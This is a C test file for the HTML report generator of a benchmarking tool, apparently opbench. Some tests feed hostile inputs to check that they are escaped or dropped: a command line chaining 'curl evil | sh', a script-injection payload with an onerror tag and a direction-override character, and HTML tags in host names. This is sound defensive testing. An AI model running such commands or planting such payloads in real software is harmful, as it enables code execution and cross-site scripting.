/* SPDX-License-Identifier: Apache-2.0
 *
 * Pages: samples packed to the bit, texts that mean harm, what is shown of which records, and a reader that gives up.
 */
#include "check.h"
#include "opbench/page.h"
#include "report/page_model.h"

#include <math.h>
#include <stdlib.h>

static ob_text page_text;

static bool append(void *ctx, const char *bytes, size_t count)
{
    return ob_text_append(ctx, bytes, count);
}

static bool refuse(void *ctx, const char *bytes, size_t count)
{
    (void)ctx, (void)bytes, (void)count;
    return false;
}

static ob_status print(const char *lines, ob_page_write write, ob_err *err)
{
    ob_page *page;
    ob_record_reader *reader;
    const ob_record *record;
    page_text.size = 0;
    CHECK_INT(ob_page_create(&(ob_page_params){.size = sizeof(ob_page_params)}, &page, err), OB_OK);
    CHECK_INT(ob_page_begin_file(page, "lines", err), OB_OK);
    CHECK_INT(ob_record_reader_open_memory("lines", lines, strlen(lines), NULL, &reader, NULL),
              OB_OK);
    while (ob_record_reader_next(reader, &record, err) == OB_OK)
        CHECK_INT(ob_page_add(page, record, err), OB_OK);
    ob_record_reader_close(reader);
    const ob_status status = ob_page_print(page, write, &page_text, err);
    ob_page_destroy(page);
    ob_text_append(&page_text, "", 1);
    return status;
}

static bool has(const char *part)
{
    return strstr(page_text.data, part) != NULL;
}

#define RESULT(name, backend, more)                                                                \
    "{\"op_name\": \"" name "\", \"id\": \"0|0\", \"call\": \"" name "(f32[2])\", \"metric\": "    \
    "{\"forward\": {\"warmup.time\": [4.0], \"measure.time\": [1.0, 2.0, 1.0]}}, \"status\": "     \
    "\"ok\", \"backend\": \"" backend "\", \"threads\": 1" more                                    \
    ", \"statistics\": {\"forward\": {\"count\": 3, \"median\": 1.0, \"p99\": 2.0, "               \
    "\"disturbed\": "                                                                              \
    "[1]}}}\n"

/* The least is 0, the largest 32767, the square root of both in the middle; the highest bit says that it was set aside. */
static void packing(void)
{
    CHECK_INT(ob__page_pack_sample(1e6F, 1e6, 4e6), 0);
    CHECK_INT(ob__page_pack_sample(4e6F, 1e6, 4e6), 32767);
    CHECK_INT(ob__page_pack_sample(2e6F, 1e6, 4e6), 16384);
    CHECK_INT(ob__page_pack_sample(-2e6F, 1e6, 4e6), 16384 + 32768);
    CHECK_INT(ob__page_pack_sample(5.0F, 5, 5), 0);
}

static void rows(void)
{
    ob_err err;
    CHECK_INT(print(RESULT("mm", "a", ", \"count\": 7"), append, &err), OB_OK);
    /* 4 samples: 4 ms of warm-up, 1 ms, 2 ms that was set aside, 1 ms. */
    CHECK(has("{\"rows\":[[0,1,3,1,1000000,4000000,1000000,null,null]],\n\"samples\":\"f/"
              "8AAMAAAAAAAAAA\"}"));
    CHECK(has("<th scope=row class=call><a href=#c1>mm(f32[2])</a></th><td>a</td><td>forward</td>"
              "<td>ok</td><td class=n>1 ms</td>"));
    CHECK(has("<td class=n>7</td><td class=n>7 ms</td>")); /* calls, and the median by them */
    CHECK(has("Where the step\342\200\231s time goes"));
    CHECK(has("<p>a: 7 ms.</p>"));
    CHECK(has("3 samples, 1 disturbed"));
    CHECK(!has("Side by side"));
    CHECK(!has("Failed and skipped"));
}

/* A statement has blocks alone: 0.004 s of 2 iterations are 2 ms each. */
static void statements(void)
{
    ob_err err;
    CHECK_INT(print("{\"id\": \"c 1\", \"status\": \"ok\", \"mode\": \"blocked\", "
                    "\"number_per_run\": 2, \"raw_times\": [0.004, 0.008], \"task_spec\": "
                    "{\"stmt\": \"x++\"}, \"statistics\": {\"forward\": {\"count\": 2, "
                    "\"median\": 3.0}}}\n",
                    append, &err),
              OB_OK);
    CHECK(has("{\"rows\":[[0,0,2,1,2000000,4000000,3000000,null,null]],"));
    CHECK(has("<a href=#c1>x++</a>"));
}

static void sides(void)
{
    ob_err err;
    CHECK_INT(print(RESULT("mm", "a", "") RESULT("mm", "b", ""), append, &err), OB_OK);
    CHECK(has("<b>b</b> against a: 1 same, geometric mean of the ratios 1."));
    CHECK(!has("time goes</h2>")); /* nothing says how often it is called */
}

/* What has a button that copies it is a command of ours. */
static void commands(void)
{
    ob_err err;
#define GIVEN(command)                                                                             \
    "{\"run_options\": {\"cmd_args\": {}}, \"start_time\": \"2026-01-01T00:00:00\", "              \
    "\"command_line\": \"" command "\"}\n"
    CHECK_INT(print(GIVEN("opbench run -c x.json") RESULT("mm", "a", ""), append, &err), OB_OK);
    CHECK(has("<code>opbench run -c x.json</code>"));
    CHECK_INT(print(GIVEN("opbench run; curl evil | sh") RESULT("mm", "a", ""), append, &err),
              OB_OK);
    CHECK(!has("curl evil"));
}

static void failures(void)
{
    ob_err err;
#define FAILED(id)                                                                                 \
    "{\"op_name\": \"mm\", \"id\": \"" id "\", \"status\": \"failed\", \"reason\": \"no <b>\", "   \
    "\"backend\": \"a\", \"threads\": 1, \"repro\": \"opbench run 'a & b'\"}\n"
    CHECK_INT(print(FAILED("0") FAILED("1"), append, &err), OB_OK);
    CHECK(has("<span class=\"mark bad\">failed</span> <b>2 cases</b>: no &lt;b&gt;</summary>"));
    CHECK(has(
        "<span class=\"call\">mm|1</span><span class=\"repro\"><code>opbench run &#39;a &amp; b"));
    CHECK(!has("no <b>"));
    /* Each reason has its own cases. */
    CHECK_INT(print(FAILED("0") FAILED("1") "{\"op_name\": \"add\", \"id\": \"7\", \"status\": "
                                            "\"failed\", \"reason\": \"other\"}\n",
                    append, &err),
              OB_OK);
    size_t listed = 0;
    for (const char *at = page_text.data; (at = strstr(at, "<li><span class=\"call\">")) != NULL;
         at++)
        listed++;
    CHECK_INT(listed, 3);
}

static void harm(void)
{
    ob_err err;
    CHECK_INT(print(RESULT("<script>alert(1)</script>\\\"><img onerror=x>\\u202e", "</script>", ""),
                    append, &err),
              OB_OK);
    CHECK(!has("<script>alert"));
    CHECK(!has("<img"));
    CHECK(!has("\342\200\256"));
    CHECK(has("&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img onerror=x&gt;?(f32[2])"));
    CHECK(has("default-src 'none'; base-uri 'none'; form-action 'none'; script-src 'sha256-"));
}

/* A name of any length is cut, between two characters; more of it can be opened, until the page has enough of that. */
static void long_names(void)
{
    ob_err err;
    ob_text line = {.data = NULL};
    ob_text_append_str(&line,
                       "{\"op_name\": \"x\", \"id\": \"0\", \"status\": \"failed\", \"call\": \"");
    for (size_t i = 0; i < 1000; i++)
        ob_text_append_str(&line, "\303\251");
    ob_text_append_str(&line, "\"}\n");
    ob_text_append(&line, "", 1);
    CHECK_INT(print(line.data, append, &err), OB_OK);
    const char *cell = strstr(page_text.data, "class=call>");
    CHECK(cell != NULL);
    if (cell != NULL)
        CHECK_INT(
            (long)(strstr(cell, "\342\200\246<details class=\"rest\"><summary>more</summary>") -
                   cell),
            (long)(strlen("class=call>") + OB_PAGE_NAME));
    CHECK(has("\303\251</details></th>")); /* 2,000 bytes are all shown */
    line.size--;
    ob_text many = {.data = NULL};
    for (size_t i = 0; i < 2000; i++)
        ob_text_append(&many, line.data, line.size);
    ob_text_append(&many, "", 1);
    CHECK_INT(print(many.data, append, &err), OB_OK);
    size_t rests = 0;
    for (const char *at = page_text.data; (at = strstr(at, "class=\"rest\"")) != NULL; at++)
        rests++;
    CHECK_INT(rests, OB_PAGE_REST_MOST / 2000);
    ob_text_fini(&many);
    ob_text_fini(&line);
}

static void errors(void)
{
    ob_err err;
    CHECK_INT(print("", append, &err), OB_ERR_NOT_FOUND);
    CHECK_STR(err.message, "there are no results to show; give files that `opbench run`, `time` or "
                           "`sweep` wrote");
    CHECK_INT(print(RESULT("mm", "a", ""), refuse, &err), OB_ERR_IO);
}

/* A capital begins what a message says, unless it begins with a name. */
static void sentences(void)
{
    ob_err err;
    CHECK_INT(print(RESULT("a", "x", ", \"warnings\": [\"the clock is coarse\"]")
                        RESULT("b", "x", ", \"warnings\": [\"oneDNN is old\"]"),
                    append, &err),
              OB_OK);
    CHECK(has("</b> The clock is coarse<"));
    CHECK(has("</b> oneDNN is old<"));
}

#define NODE(name, kernel)                                                                         \
    "{\"sys_info\": {\"hostname\": \"" name "\", \"kernel\": \"" kernel                            \
    "\"}, \"start_time\": \"x\"}\n" RESULT("mm", "a", "")

/* Results of three nodes have a map; names in it are texts. */
static void nodes(void)
{
    ob_err err;
    CHECK_INT(print(NODE("x1", "6") NODE("x2", "6"), append, &err), OB_OK);
    CHECK(!has("<h2>Nodes</h2>"));
    CHECK_INT(print(NODE("x1", "6") NODE("x2", "6") NODE("<i>3", "<b>5"), append, &err), OB_OK);
    CHECK(has("<a href=\"#nodes\">Nodes</a>"));
    CHECK(has("<p>3 nodes: 2 healthy, 1 different,"));
    CHECK(has("<th scope=\"row\" class=\"call\">&lt;i&gt;3</th><td><span class=\"mark bad\">"
              "different</span></td><td class=\"why\">kernel: &lt;b&gt;5, most nodes have 6</td>"));
    CHECK(has("<title>&lt;i&gt;3, other: +0.0 % ("));
    CHECK(!has("<i>3") && !has("<b>5"));
}

int main(void)
{
    RUN(packing);
    RUN(nodes);
    RUN(rows);
    RUN(statements);
    RUN(sides);
    RUN(commands);
    RUN(failures);
    RUN(harm);
    RUN(long_names);
    RUN(sentences);
    RUN(errors);
    ob_text_fini(&page_text);
    return ob_test_end();
}
